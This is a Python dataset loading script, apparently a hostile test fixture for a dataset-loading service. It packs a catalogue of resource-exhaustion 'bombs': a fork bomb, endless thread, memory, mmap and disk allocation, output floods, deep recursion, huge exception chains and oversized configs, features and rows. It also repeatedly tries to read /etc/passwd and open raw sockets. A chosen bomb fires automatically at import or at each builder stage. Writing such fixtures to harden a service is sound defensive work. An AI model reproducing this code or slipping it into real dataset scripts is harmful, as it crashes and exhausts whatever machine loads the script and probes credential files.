"""Takes all that it can of the machine: memory, threads, the disk, the parent's patience."""

import mmap
import os
import sys
import threading
import time
import warnings

import datasets
import numpy

from .attacker import LIBC, WHERE, system_call

MODE, PHASE = WHERE["mode"], WHERE["phase"]
TEXT = datasets.Features({"text": datasets.Value("string")})
KEPT = []


def _forks():
    while True:
        try:
            os.fork()
        except OSError:
            LIBC.fork()
            time.sleep(0.001)
        KEPT.append(None)
        if len(KEPT) > 300:
            raise OSError("no process was made")


def _threads():
    stop = threading.Event()
    while True:
        thread = threading.Thread(target=stop.wait, daemon=True)
        thread.start()
        KEPT.append(thread)


def _list():
    while True:
        KEPT.append([0] * 1_000_000)


def _mapped():
    while True:
        place = mmap.mmap(-1, 64 << 20)
        place[::4096] = b"x" * len(range(0, 64 << 20, 4096))
        KEPT.append(place)


def _swallowed():
    while True:
        try:
            KEPT.append(bytearray(64 << 20))
        except MemoryError:
            KEPT.append(b"x" * 1_000)


def _arrays():
    while True:
        KEPT.append(numpy.ones(8 << 20))


def _printed(stream, line):
    while True:
        stream.write(line)


def _file():
    with open("big", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))


def _files():
    for number in range(WHERE["most"]):
        with open(f"big{number}", "wb") as file:
            file.write(b"x" * (1 << 20))


def _denied():
    while True:
        try:
            open(f"/etc/passwd{'' if len(KEPT) % 2 else '-'}")
        except OSError:
            KEPT.append(None)


def _refused():
    while True:
        try:
            system_call("socket", 1, 1, 0)
        except OSError:
            pass


def _warned():
    for number in range(100_000):
        warnings.warn(f"warning {number}", stacklevel=1)
    raise ValueError("x" * 50_000_000)


def _chained():
    error = ValueError("first")
    for number in range(20_000):
        following = ValueError(number)
        following.__cause__ = error
        error = following
    raise error


def _recursing():
    sys.setrecursionlimit(1 << 30)

    def again(depth):
        return again(depth + 1) + 1

    return again(0)


BOMBS = {
    "forks": _forks,
    "threads": _threads,
    "list": _list,
    "mmap": _mapped,
    "arrays": _arrays,
    "swallowed": _swallowed,
    "print": lambda: _printed(sys.stdout, "flood " * 1000 + "\n"),
    "line": lambda: _printed(sys.stderr, "flood " * 1000),
    "file": _file,
    "files": _files,
    "denied": _denied,
    "refused": _refused,
    "warned": _warned,
    "chained": _chained,
    "recursion": _recursing,
}


def explode(phase):
    """Do harm, if it is time."""
    if phase == PHASE and MODE in BOMBS:
        BOMBS[MODE]()


explode("import")


class Bomb(datasets.GeneratorBasedBuilder):
    """Takes."""

    VERSION = datasets.Version("1.0.0")
    if MODE == "configs":
        BUILDER_CONFIGS = [datasets.BuilderConfig(name=f"config{number}") for number in range(300_000)]
    if MODE == "description of a config":
        BUILDER_CONFIGS = [datasets.BuilderConfig(name="one", description="x" * (64 << 20))]
    if MODE == "docstring":
        __doc__ = "x" * (64 << 20)

    def _info(self):
        explode("info")
        features, description = TEXT, ""
        if MODE == "description":
            description = "x" * (64 << 20)
        if MODE == "deep features":
            inner = datasets.Value("int8")
            for _ in range(300):
                inner = [inner]
            features = datasets.Features({"deep": inner})
        if MODE == "columns":
            features = datasets.Features({f"column{number}": datasets.Value("int8") for number in range(300_000)})
        if MODE == "classes":
            features = datasets.Features({"label": datasets.ClassLabel(num_classes=3_000_000)})
        if MODE == "shape":
            features = datasets.Features({"array": datasets.Array2D(shape=(1 << 30, 1 << 30), dtype="int8")})
        return datasets.DatasetInfo(features=features, description=description)

    def _split_generators(self, dl_manager):
        explode("split_generators")
        if MODE == "questions":
            while True:
                dl_manager.download("nothing")
        if MODE == "question":
            dl_manager.download([f"nothing{number}" for number in range(3_000_000)])
        if MODE == "splits":
            return [datasets.SplitGenerator(name=f"split{number}", gen_kwargs={}) for number in range(300_000)]
        if MODE == "gen_kwargs":
            return [
                datasets.SplitGenerator(name="train", gen_kwargs={"files": [f"file{number}" for number in range(3_000_000)]})
            ]
        if MODE == "deep gen_kwargs":
            inner = []
            for _ in range(100_000):
                inner = [inner]
            return [datasets.SplitGenerator(name="train", gen_kwargs={"deep": inner})]
        if MODE == "caught":
            for number in range(100_000):
                try:
                    dl_manager.download(f"/etc/passwd{number}")
                except Exception:
                    pass
        return [datasets.SplitGenerator(name="train", gen_kwargs={})]

    def _generate_examples(self, **_):
        explode("generate")
        if MODE in ("rows", "rows without an end"):
            number = 0
            while True:
                yield number, {"text": "flood " * 100}
                number += 1
        if MODE == "row":
            yield 0, {"text": "x" * (700 << 20)}
        if MODE == "empty rows":
            for number in range(1 << 40):
                yield number, {"text": None}
        if MODE == "key":
            yield "x" * (64 << 20), {"text": "x"}
        if MODE == "keys":
            for number in range(100_000):
                yield ("x" * 100_000, number), {"text": "x"}
        if MODE == "shape":
            yield 0, {"array": numpy.zeros((1, 1), "int8")}
        if MODE == "columns of a row":
            yield 0, {f"column{number}": number for number in range(1_000_000)}
        yield 1, {"text": "done"}
